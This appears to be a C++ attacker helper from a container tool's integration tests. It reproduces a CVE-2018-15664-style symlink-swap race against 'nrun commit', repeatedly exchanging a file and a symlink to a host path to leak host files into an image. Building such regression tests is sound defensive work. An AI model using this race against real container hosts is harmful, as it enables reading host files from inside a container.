// The attack on `nrun commit` (CVE-2018-15664 class), run inside a
// container by tests/integration/commit_security_test.cpp. Static, so it
// runs in any image.
//
//   commit_attacker swap DIR TARGET
//     makes DIR/f, a regular file, and DIR/s, a symlink to TARGET (a host
//     path), then swaps the two names with renameat2(RENAME_EXCHANGE) as
//     fast as it can, forever. A commit that opens DIR/f by path while it is
//     the symlink copies the host's TARGET into the image.
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <string>

int main(int argc, char** argv) {
  if (argc != 4 || strcmp(argv[1], "swap") != 0) {
    fprintf(stderr, "usage: commit_attacker swap DIR TARGET\n");
    return 2;
  }
  const std::string dir = argv[2], f = dir + "/f", s = dir + "/s";
  mkdir(dir.c_str(), 0755);
  const int fd = open(f.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0 || write(fd, "container data\n", 15) != 15) {
    perror("write DIR/f");
    return 1;
  }
  close(fd);
  unlink(s.c_str());
  if (symlink(argv[3], s.c_str()) != 0) {
    perror("symlink DIR/s");
    return 1;
  }
  const int ready = open((dir + "/ready").c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (ready >= 0) close(ready);
  for (;;)
    if (renameat2(AT_FDCWD, f.c_str(), AT_FDCWD, s.c_str(), RENAME_EXCHANGE) != 0) {
      perror("renameat2");
      return 1;
    }
}
